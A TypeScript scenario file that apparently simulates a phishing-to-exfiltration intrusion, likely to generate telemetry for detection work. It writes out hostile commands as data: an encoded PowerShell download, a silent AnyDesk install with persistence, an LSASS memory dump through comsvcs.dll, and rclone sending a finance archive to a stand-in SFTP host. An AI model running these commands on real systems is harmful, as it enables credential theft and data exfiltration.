/** Intrusion 1, “the invoice”. Who, what and when: see ../README.md. */

import * as desk from '../programs/desk';
import { program } from '../programs/program';
import * as rmm from '../programs/rmm';
import * as windows from '../programs/windows';
import type { Story } from '../story/story';

const relay = { host: 'relay-3f9c2b71.net.anydesk.com', ip: '203.0.113.61' };
const rclone = program('C:\\ProgramData\\rc\\rclone.exe', 'https://rclone.org', 'Rclone', '1.66.0', 'Rsync for cloud storage', {
  certificate: null,
});
const encoded =
  'SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcANwAvAGEAZAAuAGUAeABlAA==';

export function invoice(story: Story): void {
  const machine = story.on('ws-fin-014');
  const victim = machine.device.user;

  const explorer = machine.signIn(victim, story.at(4, '07:58'));
  const outlook = explorer.start(desk.outlook, { after: '4m' });
  const archive = outlook.start(windows.wscript, {
    after: '37m',
    command: `"{path}" "C:\\Users\\${victim.name}\\AppData\\Local\\Temp\\Temp1_Invoice_88213.zip\\Invoice_88213.pdf.js"`,
  });
  const loader = archive.start(windows.powershell, {
    after: '3s',
    command: `"{path}" -NoP -W Hidden -Exec Bypass -Enc ${encoded}`,
  });
  loader.connect({ ip: '203.0.113.77', port: 80, after: '2s' });
  const dropped = loader.start(rmm.anydeskTemp, {
    after: '9s',
    command: '"{path}" --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
  });
  dropped.connect({ host: 'boot.net.anydesk.com', ip: '203.0.113.60', after: '3s' });
  loader.start(windows.cmd, {
    after: '21s',
    command: '"{path}" /c echo Wint3r!sale | C:\\ProgramData\\AnyDesk\\AnyDesk.exe --set-password',
  });
  loader.start(windows.schtasks, {
    after: '33s',
    command: '"{path}" /create /tn "OneDrive Sync Helper" /tr C:\\ProgramData\\AnyDesk\\AnyDesk.exe /sc onlogon /ru system',
  });

  const service = machine.services(story.at(4, '08:41')).start(rmm.anydeskProgramData, { command: '"{path}" --service' });
  service
    .connect(relay)
    .connect({ ...relay, after: '3h' })
    .connect({ ...relay, after: '9h' });

  // The night after: somebody is at the other end.
  const night = machine.services(story.at(3, '01:11')).start(rmm.anydeskProgramData, { command: '"{path}" --backend' });
  night.connect(relay).connect({ ...relay, after: '40m' });
  const shell = night.start(windows.cmd, { after: '2m', command: '"{path}"' });
  shell.start(windows.whoami, { after: '10s', command: 'whoami  /all' });
  shell.start(windows.nltest, { after: '44s', command: 'nltest  /domain_trusts /all_trusts' });
  shell.start(windows.net, { after: '1m', command: 'net  group "Domain Admins" /domain' });
  shell.start(windows.rundll32, {
    after: '6m',
    command: '"{path}" C:\\windows\\System32\\comsvcs.dll, MiniDump 804 C:\\ProgramData\\rc\\l.dmp full',
  });
  shell.start(desk.sevenZip, {
    after: '14m',
    command: '"{path}" a -pq1w2 C:\\ProgramData\\rc\\fin.7z \\\\srv-fs-002\\finance$\\2026',
  });
  shell
    .start(rclone, {
      after: '26m',
      command: '"{path}" copy C:\\ProgramData\\rc\\fin.7z drop:hm --no-check-certificate --transfers 8',
    })
    .connect({ host: 'sftp.dropzone.example', ip: '203.0.113.90', port: 22, after: '2s' })
    .connect({ host: 'sftp.dropzone.example', ip: '203.0.113.90', port: 22, after: '15m' });

  // It is still there.
  const again = machine.services(story.at(1, '22:37')).start(rmm.anydeskProgramData, { command: '"{path}" --backend' });
  again.connect(relay);
  again
    .start(windows.cmd, { after: '5m', command: '"{path}"' })
    .start(windows.ipconfig, { after: '30s', command: 'ipconfig  /all' });
}
